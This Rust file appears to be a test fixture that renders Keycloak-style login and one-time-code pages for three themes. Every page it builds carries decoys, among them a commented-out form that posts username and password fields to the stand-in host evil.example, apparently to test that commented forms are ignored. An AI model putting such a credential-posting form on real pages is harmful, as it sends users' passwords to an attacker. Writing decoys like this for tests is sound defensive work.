//! [`Theme`]: the login pages as each theme writes them.

use super::ACTION;

/// The three themes differ in their frame, in the tag of buttons and in where they say what is wrong.
#[derive(Clone, Copy, PartialEq)]
pub(super) enum Theme {
    V2,
    Classic,
    Base,
}

pub(super) const THEMES: [Theme; 3] = [Theme::V2, Theme::Classic, Theme::Base];

impl Theme {
    pub(super) fn page(self, title: &str, body: &str) -> String {
        let frame = if self == Self::V2 {
            " id=\"keycloak-bg\""
        } else {
            ""
        };
        let heading = match self {
            Self::Classic => String::new(),
            _ => format!("<h1 id=\"kc-page-title\">\n  {title}\n</h1>"),
        };
        format!(
            "<!DOCTYPE html><html lang=\"xx\"><head><meta charset=\"utf-8\"><title>{title}</title>\n\
             <script>if (1 < 2) document.write(\"<form><input name=otp>\");</script>\n\
             <style>p > a {{}}</style></head><body{frame}>\n\
             <!-- <form method=post action=https://evil.example/><input name=username><input name=password></form> -->\n\
             <select onchange=\"x()\"><option value=\"/?kc_locale=de\">Deutsch</option></select>\n\
             {heading}\n{body}</body></html>"
        )
    }

    pub(super) fn button(self) -> &'static str {
        match self {
            Self::V2 => "<button type=\"submit\" name=\"login\" id=\"kc-login\">Anmelden</button>",
            _ => "<input type=\"submit\" name=\"login\" id=\"kc-login\" value=\"Anmelden\"/>",
        }
    }

    pub(super) fn wrong(self, v2: &str, other: &str, text: &str) -> String {
        match self {
            Self::V2 => format!(
                "<div id=\"input-error-container-{v2}\"><div id=\"input-error-{v2}\">\
                 <span class=\"pf kc-feedback-text\">\n {text}\n</span></div></div>"
            ),
            _ => format!("<span id=\"{other}\" aria-live=\"polite\">\n {text}\n</span>"),
        }
    }

    pub(super) fn alert(self, text: &str) -> String {
        match self {
            Self::V2 => format!(
                "<div class=\"pf-v5-c-alert pf-m-danger\"><div class=\"icon\"><span></span></div>\
                 <span class=\"pf-v5-c-alert__title kc-feedback-text\">{text}</span></div>"
            ),
            _ => format!(
                "<div class=\"alert alert-error\"><span class=\"kc-feedback-text\">{text}</span></div>"
            ),
        }
    }

    pub(super) fn login(self, fields: &[&str], said: &str) -> String {
        let mut inputs = String::new();
        for field in fields {
            let kind = if *field == "password" {
                "password"
            } else {
                "text"
            };
            inputs += &format!(
                "<label for=\"{field}\">x</label><input id=\"{field}\" name=\"{field}\" type=\"{kind}\" value=\"\"/>\n"
            );
        }
        if self == Self::V2 {
            inputs += "<div id=\"input-error-container-username\">\n </div>\
                       <button type=\"button\" name=\"show\">eye</button>";
        }
        let button = self.button();
        let form = format!(
            "<form id=\"kc-form-login\" action=\"{ACTION}\" method=\"post\">\n{inputs}{said}\n\
             <input type=\"checkbox\" name=\"rememberMe\">\n\
             <input type=\"hidden\" id=\"id-hidden-input\" name=\"credentialId\" value=\"a&amp;b\">{button}</form>"
        );
        self.page("Anmelden", &form)
    }

    pub(super) fn code(self, inner: &str, said: &str) -> String {
        let button = self.button();
        let form = format!(
            "<form id=\"kc-otp-login-form\" action=\"{ACTION}\" method=\"POST\">{inner}\
             <input id=\"otp\" name=\"otp\" autocomplete=\"one-time-code\" type=\"text\"/>{said}{button}</form>\
             <form id=\"kc-select-try-another-way-form\" action=\"{ACTION}\" method=\"post\">\
             <input type=\"hidden\" name=\"tryAnotherWay\" value=\"on\"/></form>"
        );
        self.page("Anmelden", &form)
    }
}
